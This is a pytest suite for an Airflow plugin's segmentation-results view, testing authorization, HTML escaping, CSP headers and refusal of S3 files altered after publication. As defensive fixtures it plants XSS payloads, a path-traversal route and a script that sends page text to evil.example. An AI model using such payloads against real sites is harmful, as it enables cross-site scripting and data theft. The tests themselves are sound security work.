"""The Segmentation view: Airflow loads the plugin, and a real api-server serves it only to who may read the DAG."""

from __future__ import annotations

import html
import io
import json
import os
import re
import socket
import subprocess
import sys
import uuid
from pathlib import Path
from urllib.parse import quote, urlencode

import pandas as pd
import pytest

from aws_emulator.connection import airflow_env
from include.airflow_popseg.published import published_run, published_runs
from include.segmentation.parquet_tables import parquet_bytes
from include.segmentation_aws.published_runs import PNG_MAGIC, NotPublished, run_summary
from tests.support.airflow_db import record_publication
from tests.support.api_server import api_token, http_get, http_response, running_api_server
from tests.support.paths import PROJECT_ROOT
from tests.support.published_files import legacy_summary, publish_files, trained_run, unchanged_run

pytestmark = pytest.mark.slow

RUN_ID = "manual__2026-11-23T02:00:00+00:00"
HOSTILE = "<script>alert(1)</script>"
SEGMENTS_CSV = b"State-County,segment,distance,c_1\nAlabama-Autauga,2,0.25,-0.5\n"
SEGMENTS_PARQUET = parquet_bytes(pd.read_csv(io.BytesIO(SEGMENTS_CSV)), "segments.csv", RUN_ID)


def _airflow_env(aws_env: dict, **extra: str) -> dict:
    return {**os.environ, **aws_env, "PYTHONPATH": str(PROJECT_ROOT), **extra}


def test_airflow_lists_the_plugin_with_its_view(airflow_db, aws_env) -> None:
    listed = subprocess.run(
        [str(Path(sys.executable).parent / "airflow"), "plugins", "--output", "json"],
        check=True,
        capture_output=True,
        text=True,
        env=_airflow_env(aws_env),
    ).stdout
    plugin = next(p for p in json.loads(listed[listed.index("[") :]) if p["name"] == "popseg_segmentation")
    assert "/segmentation" in str(plugin["fastapi_apps"])
    views = {view["destination"]: view for view in plugin["external_views"]}
    # The nav entry: a name short enough not to be cut off, and its own icon (the nav loads it in an <img>).
    assert views["nav"]["name"] == "Segments" and views["nav"]["href"] == "/segmentation/"
    assert all(views["nav"][key].startswith("data:image/svg+xml,") for key in ("icon", "icon_dark_mode"))
    # Each run's page gets a "Report" tab; the UI fills in {RUN_ID}.
    assert views["dag_run"]["name"] == "Report"
    assert views["dag_run"]["href"] == "/segmentation/runs/{RUN_ID}/report"


INDEXED = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
           "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip


def _indexed(run_id: str, document: dict | None = None) -> dict:
    """The summary of run `run_id` (its run.json `document`, else a published run's) with a report digest."""
    document = {**(document or trained_run(INDEXED)), "run_id": run_id}
    return run_summary(document, f"s3://popseg-index/segmentation/runs/{run_id}/", {"report.html": "0" * 64})


def _listed(run_ids: list[str]) -> list[tuple[str, str]]:
    """(run id, state) of these runs in the index, in its order (other tests of the session record runs too)."""
    return [(run.run_id, run.state) for run in published_runs() if run.run_id in run_ids]


def test_the_index_lists_published_held_unchanged_and_legacy_runs_newest_first(airflow_db) -> None:
    tag = uuid.uuid4().hex[:8]
    legacy, published, held, unchanged = (f"manual__{tag}_{name}" for name in ("legacy", "pub", "held", "same"))
    record_publication(_indexed(legacy), asset="population_segmentation_results")  # before the runs Asset
    record_publication(_indexed(published, trained_run(INDEXED, previous_run=legacy, churn=0.123)))
    record_publication(_indexed(held, trained_run(INDEXED, previous_run=published, churn=0.6, refusal="too much")))
    record_publication(
        _indexed(unchanged, unchanged_run(INDEXED, unchanged, since=published)), task_id="record_unchanged"
    )
    assert _listed([legacy, published, held, unchanged]) == [
        (unchanged, "unchanged"), (held, "held"), (published, "published"), (legacy, "published")
    ]  # fmt: skip
    assert published_run(unchanged).unchanged_since == published and published_run(held).held_reason == "too much"


def test_the_index_lists_no_event_another_task_or_asset_recorded(airflow_db) -> None:
    tag = uuid.uuid4().hex[:8]
    results = "population_segmentation_results"
    planted = {
        f"manual__{tag}_promote": {"task_id": "promote", "asset": results},  # latest.json moved: not a run record
        f"manual__{tag}_promote_runs": {"task_id": "promote"},
        f"manual__{tag}_other_task": {"task_id": "someone-else"},
        f"manual__{tag}_unchanged_on_results": {"task_id": "record_unchanged", "asset": results},
    }  # fmt: skip
    for run_id, recorded in planted.items():
        record_publication(_indexed(run_id), **recorded)
    assert _listed(list(planted)) == []
    for run_id in planted:
        with pytest.raises(NotPublished, match=f"Run {run_id} has recorded no results"):
            published_run(run_id)


def test_a_run_recorded_twice_is_listed_once_as_its_newest_event_says(airflow_db) -> None:
    run_id = f"manual__{uuid.uuid4().hex[:8]}"
    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.6, refusal="x")))
    record_publication(_indexed(run_id, trained_run(INDEXED, previous_run="manual__before", churn=0.1)))  # re-run
    assert _listed([run_id]) == [(run_id, "published")]
    assert (published_run(run_id).state, published_run(run_id).churn) == ("published", 0.1)


def test_the_index_is_bounded_by_runs_not_events_and_costs_one_query(airflow_db) -> None:
    from airflow.settings import engine
    from sqlalchemy import event

    tag = uuid.uuid4().hex[:8]
    for attempt in range(3):  # the newest run, recorded three times
        record_publication(_indexed(f"manual__{tag}_b", trained_run(INDEXED, churn=attempt / 10)))
    record_publication(_indexed(f"manual__{tag}_c"))
    statements = []

    def executed(connection, cursor, statement, *rest) -> None:
        statements.append(statement)

    event.listen(engine, "before_cursor_execute", executed)
    try:
        newest = published_runs(limit=2)
    finally:
        event.remove(engine, "before_cursor_execute", executed)
    assert [run.run_id for run in newest] == [f"manual__{tag}_c", f"manual__{tag}_b"]
    assert len([sql for sql in statements if sql.lstrip().upper().startswith("SELECT")]) == 1, statements


PLANTED_REPORT = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"


@pytest.fixture
def published(airflow_db, clients) -> dict[str, str]:
    """Two published runs in two buckets/prefixes, and planted events and files a hostile writer could make."""
    s3 = clients["s3"]
    bucket, other = (f"popseg-view-{uuid.uuid4().hex[:8]}" for _ in range(2))
    runs = {RUN_ID: (bucket, "segmentation/"), f"{RUN_ID}-other": (other, "teams/a/")}
    run = {"run_id": RUN_ID, "rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
           "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
    for run_id, (name, prefix) in runs.items():
        s3.create_bucket(Bucket=name)
        files = {
            "report.html": f"<h1>report of {run_id}</h1>".encode(),
            "plots/segment_sizes.png": PNG_MAGIC + b"image",
            # The other run's segments.csv is not a segments table: refused, not served as one.
            "segments.csv": SEGMENTS_CSV if run_id == RUN_ID else HOSTILE.encode(),
            "plots/not_an_image.png": HOSTILE.encode(),
            # Only the first run has a Parquet twin: the other is as runs published before them.
            **({"segments.parquet": SEGMENTS_PARQUET} if run_id == RUN_ID else {}),
        }
        record_publication(publish_files(s3, {**run, "run_id": run_id}, f"s3://{name}/{prefix}runs/{run_id}/", files))
    hostile = run_summary({**run, "run_id": "manual__hostile"}, f"s3://{bucket}/x/runs/manual__hostile/", {})
    record_publication({**hostile, "n_components": HOSTILE, "k": HOSTILE})  # refused: not counts
    record_publication(
        run_summary({**run, "run_id": "manual__posted"}, f"s3://{bucket}/x/runs/manual__posted/", {}),
        task_id="someone-else",
    )
    # A run whose files were replaced in S3 after it published them, and a run published before digests.
    planted = f"s3://{bucket}/segmentation/runs/manual__planted/"
    files = {"report.html": b"<h1>the real report</h1>", "segments.csv": SEGMENTS_CSV, "plots/a.png": PNG_MAGIC}
    record_publication(publish_files(s3, {**run, "run_id": "manual__planted"}, planted, files))
    replaced = {"report.html": PLANTED_REPORT, "segments.csv": SEGMENTS_CSV + b"x,1,0,0\n", "plots/a.png": b"picture"}
    for name, data in replaced.items():
        s3.put_object(Bucket=bucket, Key=f"segmentation/runs/manual__planted/{name}", Body=data)
    legacy = f"s3://{bucket}/segmentation/runs/manual__legacy/"
    publish_files(s3, run, legacy, {"report.html": b"<h1>an old report</h1>"})
    record_publication(legacy_summary({**run, "run_id": "manual__legacy"}, legacy))
    # A run whose files were deleted from S3 after it published them, and a run whose bucket is gone.
    gone = f"s3://{bucket}/segmentation/runs/manual__gone/"
    record_publication(publish_files(s3, {**run, "run_id": "manual__gone"}, gone, files))
    for name in files:
        s3.delete_object(Bucket=bucket, Key=f"segmentation/runs/manual__gone/{name}")
    emptied = f"popseg-view-{uuid.uuid4().hex[:8]}"
    s3.create_bucket(Bucket=emptied)
    record_publication(
        publish_files(
            s3, {**run, "run_id": "manual__bucket_gone"}, f"s3://{emptied}/s/runs/manual__bucket_gone/", files
        )
    )
    for name in files:
        s3.delete_object(Bucket=emptied, Key=f"s/runs/manual__bucket_gone/{name}")
    s3.delete_bucket(Bucket=emptied)
    return {"bucket": bucket, "other": other, "emptied": emptied}


def test_every_route_needs_read_access_to_the_dags_runs(aws_env, published, tmp_path) -> None:
    routes = [
        "/segmentation/",
        f"/segmentation/runs/{RUN_ID}/report",
        f"/segmentation/runs/{RUN_ID}/report.html",
        f"/segmentation/runs/{RUN_ID}/plots/segment_sizes.png",
        f"/segmentation/runs/{RUN_ID}/segments.csv",
        f"/segmentation/runs/{RUN_ID}/segments.parquet",
    ]
    with running_api_server(aws_env, tmp_path) as base:
        viewer, nobody = api_token(base, "viewer"), api_token(base, "nobody")
        for route in routes:
            assert http_get(base + route)[0] == 401, route
            assert http_get(base + route, {"Authorization": f"Bearer {nobody}"})[0] == 403, route
            assert http_get(base + route, {"Cookie": f"_token={nobody}"})[0] == 403, route
            assert http_get(base + route, {"Authorization": "Bearer not-a-token"})[0] in (401, 403), route
        for headers in ({"Authorization": f"Bearer {viewer}"}, {"Cookie": f"_token={viewer}"}):
            for route in routes:
                assert http_get(base + route, headers)[0] == 200, route
        # The view's API docs are not served at all, to anyone.
        for route in ("/segmentation/docs", "/segmentation/redoc", "/segmentation/openapi.json"):
            assert http_get(base + route)[0] == 404, route
            assert http_get(base + route, {"Authorization": f"Bearer {viewer}"})[0] == 404, route


def test_a_viewer_sees_the_published_runs_and_their_reports_wherever_they_were_published(
    aws_env, published, tmp_path
) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        auth = {"Authorization": f"Bearer {api_token(base, 'viewer')}"}
        status, headers, page = http_response(f"{base}/segmentation/", auth)
        assert status == 200, page
        text = page.decode().replace("<wbr>", "")  # where a location may break
        assert RUN_ID in text and f"{RUN_ID}-other" in text and "3,218" in text and "0.8017" in text
        assert f"s3://{published['other']}/teams/a/runs/" in text
        assert "<code>s3://popseg/census/acs2015_county_data.csv</code>" in text  # the input of each run
        # Other tests of the session publish runs too (one is "manual__hostile_script"): look for these runs' links.
        assert "<script" not in text and "/runs/manual__hostile/" not in text and "/runs/manual__posted/" not in text
        assert "script-src" not in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"

        for run_id in (RUN_ID, f"{RUN_ID}-other"):
            # The run's page: its segments.csv link, and the report in a frame of this origin only. No script.
            status, headers, page = http_response(f"{base}/segmentation/runs/{run_id}/report", auth)
            assert status == 200, page
            assert f"src='/segmentation/runs/{run_id}/report.html' sandbox='allow-scripts'" in page.decode()
            assert f"href='/segmentation/runs/{run_id}/segments.csv' download" in page.decode()
            parquet_link = f"href='/segmentation/runs/{run_id}/segments.parquet' download"
            assert (parquet_link in page.decode()) == (run_id == RUN_ID)  # linked only where the run published one
            policy = headers["content-security-policy"]
            assert "frame-src 'self'" in policy and "script-src" not in policy and "default-src 'none'" in policy
            # The report itself: sandboxed, without downloads, off the network.
            status, headers, report = http_response(f"{base}/segmentation/runs/{run_id}/report.html", auth)
            assert (status, report) == (200, f"<h1>report of {run_id}</h1>".encode())
            policy = headers["content-security-policy"]
            assert policy.startswith("sandbox allow-scripts;") and "connect-src 'none'" in policy
            assert "allow-downloads" not in policy and "allow-top-navigation" not in policy
            assert headers["x-content-type-options"] == "nosniff"

        status, headers, plot = http_response(f"{base}/segmentation/runs/{RUN_ID}/plots/segment_sizes.png", auth)
        assert (status, headers["content-type"], plot) == (200, "image/png", PNG_MAGIC + b"image")
        # The run page's segments.csv link: the run's published file, as a download.
        status, headers, table = http_response(f"{base}/segmentation/runs/{RUN_ID}/segments.csv", auth)
        assert (status, headers["content-type"], table) == (200, "text/csv; charset=utf-8", SEGMENTS_CSV)
        assert headers["content-disposition"] == 'attachment; filename="segments.csv"'
        assert headers["content-security-policy"] == "default-src 'none'; sandbox"
        status, headers, table = http_response(f"{base}/segmentation/runs/{RUN_ID}/segments.parquet", auth)
        assert (status, headers["content-type"], table) == (200, "application/vnd.apache.parquet", SEGMENTS_PARQUET)
        assert headers["content-disposition"] == 'attachment; filename="segments.parquet"'
        refused = (
            f"/runs/{RUN_ID}-other/segments.parquet",  # it published none
            f"/runs/{RUN_ID}-other/segments.csv",  # not a segments table
            "/runs/manual__hostile/segments.csv",
            f"/runs/{RUN_ID}/plots/not_an_image.png",
            f"/runs/{RUN_ID}/plots/missing.png",
            "/runs/manual__hostile/report",
            "/runs/manual__hostile/report.html",
            "/runs/manual__posted/report",
            "/runs/..%2F..%2Fx/report",
        )
        for missing in refused:
            assert http_get(f"{base}/segmentation{missing}", auth)[0] == 404, missing


def test_files_changed_in_s3_after_publishing_are_refused_with_their_reason_never_served(
    aws_env, published, tmp_path
) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        auth = {"Authorization": f"Bearer {api_token(base, 'viewer')}"}
        run = f"{base}/segmentation/runs/manual__planted"
        # The run's page says why, and frames nothing.
        status, _, page = http_response(f"{run}/report", auth)
        assert status == 409 and b"<iframe" not in page and b"evil.example" not in page
        assert re.search(r"report.html of run manual__planted is not the file the run published", page.decode())
        for route in ("/report.html", "/segments.csv", "/plots/a.png"):
            status, headers, body = http_response(run + route, auth)
            assert (status, headers["content-type"]) == (409, "application/json"), route
            assert "is not the file the run published" in json.loads(body)["detail"], route
            assert b"evil.example" not in body and b"x,1,0,0" not in body and b"picture" not in body
        # A run published before digests were recorded is still listed, unlinked and saying why, but serves nothing.
        listed = http_get(f"{base}/segmentation/", auth)[1].decode()
        assert "manual__legacy</span><br><small class='legacy'>published before files were checked: re-run" in listed
        assert "/runs/manual__legacy/report" not in listed and "/runs/manual__planted/report" in listed
        status, _, page = http_response(f"{base}/segmentation/runs/manual__legacy/report", auth)
        assert status == 404 and "re-run it to view its report" in page.decode() and b"an old report" not in page
        status, _, body = http_response(f"{base}/segmentation/runs/manual__legacy/report.html", auth)
        assert status == 404 and "re-run it" in json.loads(body)["detail"]


@pytest.fixture
def unchanged(airflow_db, clients) -> dict[str, str]:
    """A run that published, a run unchanged since it (with files planted under the unchanged run's id), and a
    held run whose gate refusal carries markup: their run ids."""
    s3, tag = clients["s3"], uuid.uuid4().hex[:8]
    bucket = f"popseg-view-{tag}"
    s3.create_bucket(Bucket=bucket)
    ids = {name: f"manual__{tag}_{name}" for name in ("standing", "unchanged", "held")}
    trained = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
               "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
    files = {"report.html": b"<h1>the standing report</h1>", "segments.csv": SEGMENTS_CSV}
    standing = f"s3://{bucket}/segmentation/runs/{ids['standing']}/"
    priced = {"total": 0.0412, "priced_total": 0.0412, "items": [{"usd": 0.0412}], "no_price": []}
    record_publication(
        publish_files(s3, {**trained_run(trained), "run_id": ids["standing"], "cost": priced}, standing, files)
    )
    same = f"s3://{bucket}/segmentation/runs/{ids['unchanged']}/"
    document = unchanged_run(trained, ids["unchanged"], since=ids["standing"])
    record_publication(run_summary(document, same, {}), task_id="record_unchanged")
    for name, data in {"report.html": PLANTED_REPORT, "segments.csv": SEGMENTS_CSV}.items():
        s3.put_object(Bucket=bucket, Key=f"segmentation/runs/{ids['unchanged']}/{name}", Body=data)
    held = trained_run(trained, previous_run=ids["standing"], churn=0.6, refusal=f"churn {HOSTILE} above the gate")
    held["cost"] = {"total": None, "priced_total": 0.03, "items": [{"usd": 0.03}, {"usd": None}],
                    "no_price": [f"the price table has no {HOSTILE} in us-east-1"]}  # fmt: skip
    record_publication(
        publish_files(s3, {**held, "run_id": ids["held"]}, f"s3://{bucket}/segmentation/runs/{ids['held']}/", files)
    )
    return ids


def test_an_unchanged_run_points_to_the_run_that_stands_and_serves_no_file_under_its_id(
    aws_env, unchanged, tmp_path
) -> None:
    run, standing = unchanged["unchanged"], unchanged["standing"]
    with running_api_server(aws_env, tmp_path) as base:
        token = api_token(base, "viewer")
        api, cookie = {"Authorization": f"Bearer {token}"}, {**BROWSER, "Cookie": f"_token={token}"}
        status, _, page = http_response(f"{base}/segmentation/runs/{run}/report", cookie)
        files = {name: http_response(f"{base}/segmentation/runs/{run}/{name}", api)
                 for name in ("report.html", "segments.csv", "plots/a.png")}  # fmt: skip
        refused_page = http_response(f"{base}/segmentation/runs/{run}/report.html", cookie)
    assert status == 200 and b"<iframe" not in page and b"evil.example" not in page
    assert f"href='/segmentation/runs/{standing}/report'>Open the report of run {standing}</a>" in page.decode()
    for name, (status, _, body) in files.items():
        assert status == 404, name
        assert f"unchanged since run {standing}, whose results still stand" in json.loads(body)["detail"], name
        assert b"evil.example" not in body and b"Alabama" not in body, name
    assert refused_page[0] == 404 and "<h1>This run trained nothing</h1>" in refused_page[2].decode()
    assert f"id='instead' href='/segmentation/runs/{standing}/report'" in refused_page[2].decode()


def test_the_list_shows_each_runs_state_and_escapes_the_gates_reason(aws_env, unchanged, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        listed = http_get(f"{base}/segmentation/", {"Authorization": f"Bearer {api_token(base, 'viewer')}"})[1]
    text = listed.decode()
    assert "<script" not in text and f"churn {html.escape(HOSTILE, quote=True)} above the gate" in text
    assert "held</span>: churn above the gate — <code>latest.json</code> not moved" in text
    assert f"<span class='run'>{unchanged['unchanged']}</span>" in text  # no report of its own: not a link
    assert f"since <a href='/segmentation/runs/{unchanged['standing']}/report'>" in text
    assert "churn hint' title='60.0% of shared counties changed segment since run " in text
    assert "'>60.0&nbsp;%</span>" in text
    # Each run's estimated cost; with what has no price, escaped, in the tooltip; none recorded: a dash.
    assert "<span class='cost hint' title='Estimated cost, on-demand: $0.0412'>$0.0412</span>" in text
    assert (
        f"no price for 1 of 2 lines (the price table has no {html.escape(HOSTILE, quote=True)} in us-east-1)'>" in text
    )
    assert "'>≥&nbsp;$0.0300</span>" in text
    assert "<span class='hint' title='Recorded before costs were estimated'>—</span>" in text


BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
# What each error of the view is, as (route under /segmentation, status, the error page's heading).
ERRORS = [
    ("/runs/manual__posted/report", 404, "Nothing published to show"),
    ("/runs/manual__legacy/report.html", 404, "Nothing published to show"),
    ("/runs/not%20a%20run%20id/report", 404, "No such run"),
    ("/runs/..%2F..%2Fx/report", 404, "Page not found"),
    ("/runs/manual__planted/report", 409, "This file is not the one the run published"),
    ("/runs/manual__planted/segments.csv", 409, "This file is not the one the run published"),
    ("/runs/manual__gone/report", 404, "The results of this run are no longer in S3"),
    ("/runs/manual__bucket_gone/plots/a.png", 404, "The results of this run are no longer in S3"),
    ("/no-such-page", 404, "Page not found"),
]


def _restrictive(policy: str) -> bool:
    """The list page's policy: nothing loads but inline style, no script, framed only by Airflow."""
    return policy.startswith("default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'self'") and (
        "script-src" not in policy
    )


def _page_text(page: bytes) -> str:
    """The text of an error page, its markup dropped and its entities unescaped."""
    return html.unescape(re.sub(r"<[^>]+>", " ", page.decode()))


def test_a_browser_that_is_not_logged_in_goes_to_the_login_which_sends_it_back(aws_env, published, tmp_path) -> None:
    routes = ["/segmentation/", f"/segmentation/runs/{RUN_ID}/report", "/segmentation/runs/manual__gone/report"]
    with running_api_server(aws_env, tmp_path) as base:
        for route in routes:
            for credentials in ({}, {"Cookie": "_token=signed-with-another-secret"}):
                status, headers, _ = http_response(base + route, {**BROWSER, **credentials}, follow=False)
                assert status == 303, (route, credentials)
                assert headers["location"] == f"/auth/login?{urlencode({'next': route})}", route
        # The query string comes back too.
        status, headers, _ = http_response(f"{base}/segmentation/?sort=k", BROWSER, follow=False)
        assert headers["location"] == f"/auth/login?{urlencode({'next': '/segmentation/?sort=k'})}"


def test_a_logged_in_browser_without_access_gets_a_page_saying_so_not_the_login(aws_env, published, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        cookie = {"Cookie": f"_token={api_token(base, 'nobody')}"}
        status, headers, page = http_response(f"{base}/segmentation/runs/{RUN_ID}/report", {**BROWSER, **cookie})
    assert (status, headers["content-type"]) == (403, "text/html; charset=utf-8")
    text = _page_text(page)
    assert "You may not see the segmentation results" in text and "Ask an Airflow admin for read access" in text
    assert "href='/segmentation/'" in page.decode()  # back to the runs
    assert f"href='/auth/login?next={quote(f'/segmentation/runs/{RUN_ID}/report', safe='')}'" in page.decode()
    assert _restrictive(headers["content-security-policy"])


def test_an_api_client_gets_each_error_as_json_with_its_status(aws_env, published, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        viewer, nobody = api_token(base, "viewer"), api_token(base, "nobody")
        answers = {route: http_response(f"{base}/segmentation{route}", {"Authorization": f"Bearer {viewer}"})
                   for route, _, _ in ERRORS}  # fmt: skip
        unauthenticated = http_response(f"{base}/segmentation/", {"Accept": "application/json"}, follow=False)
        # A bearer token means an API client, whatever the Accept header says: a 403, not a page.
        forbidden = http_response(f"{base}/segmentation/", {**BROWSER, "Authorization": f"Bearer {nobody}"})
    for route, status, _ in ERRORS:
        answer_status, headers, body = answers[route]
        assert (answer_status, headers["content-type"]) == (status, "application/json"), route
        assert json.loads(body)["detail"], route
    assert unauthenticated[0] == 401 and json.loads(unauthenticated[2]) == {"detail": "Not authenticated"}
    assert forbidden[0] == 403 and json.loads(forbidden[2]) == {"detail": "Forbidden"}


def test_a_browser_gets_each_error_as_a_page_saying_what_happened_and_what_to_do(aws_env, published, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        cookie = {"Cookie": f"_token={api_token(base, 'viewer')}"}
        answers = {route: http_response(f"{base}/segmentation{route}", {**BROWSER, **cookie}) for route, _, _ in ERRORS}
    for route, status, heading in ERRORS:
        answer_status, headers, page = answers[route]
        assert (answer_status, headers["content-type"]) == (status, "text/html; charset=utf-8"), route
        assert f"<h1>{html.escape(heading)}</h1>" in page.decode(), route
        assert "id='advice'" in page.decode() and "href='/segmentation/'>Back to the list of runs" in page.decode()
        assert _restrictive(headers["content-security-policy"]) and "<script" not in page.decode(), route


def test_a_run_whose_files_are_gone_says_where_they_were_and_stays_listed(aws_env, published, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        cookie = {**BROWSER, "Cookie": f"_token={api_token(base, 'viewer')}"}
        listed = http_get(f"{base}/segmentation/", cookie)[1].decode()
        _, _, gone = http_response(f"{base}/segmentation/runs/manual__gone/report", cookie)
        _, _, bucket_gone = http_response(f"{base}/segmentation/runs/manual__bucket_gone/report", cookie)
    assert "/runs/manual__gone/report" in listed and "/runs/manual__bucket_gone/report" in listed
    text = _page_text(gone)
    assert f"report.html of run manual__gone is no longer at s3://{published['bucket']}/segmentation/runs/" in text
    assert "Re-run the DAG to publish them again, or check that the bucket exists" in text
    assert f"s3://{published['emptied']}/s/runs/manual__bucket_gone/report.html: its bucket no longer exists" in (
        _page_text(bucket_gone)
    )


HOSTILE_NAME = "<img src=x onerror=alert(1)>.png"  # a path segment: no slash


def test_an_error_page_escapes_what_the_request_named(aws_env, published, tmp_path) -> None:
    with running_api_server(aws_env, tmp_path) as base:
        cookie = {**BROWSER, "Cookie": f"_token={api_token(base, 'viewer')}"}
        status, _, page = http_response(f"{base}/segmentation/runs/{RUN_ID}/plots/{quote(HOSTILE_NAME)}", cookie)
    assert status == 404 and "<img" not in page.decode() and html.escape(HOSTILE_NAME) in page.decode()


def test_when_s3_does_not_answer_a_browser_gets_a_page_and_an_api_client_a_502(aws_env, published, tmp_path) -> None:
    with socket.socket() as probe:  # a port nothing listens on once the probe is closed
        probe.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{probe.getsockname()[1]}"
    with running_api_server(aws_env, tmp_path, **airflow_env(dead)) as base:
        token = api_token(base, "viewer")
        route = f"{base}/segmentation/runs/{RUN_ID}/report"
        # botocore retries a refused connection with backoff (BOTOCORE_CONFIG) before the view answers.
        page = http_response(route, {**BROWSER, "Cookie": f"_token={token}"}, timeout=120)
        api = http_response(route, {"Authorization": f"Bearer {token}"}, timeout=120)
    assert (page[0], page[1]["content-type"]) == (502, "text/html; charset=utf-8")
    assert "<h1>S3 did not answer</h1>" in page[2].decode() and "EndpointConnectionError" in page[2].decode()
    assert (api[0], api[1]["content-type"]) == (502, "application/json")
    detail = f"Reading run {RUN_ID}'s files from S3 failed: EndpointConnectionError: Could not connect to the endpoint"
    assert json.loads(api[2])["detail"].startswith(detail)
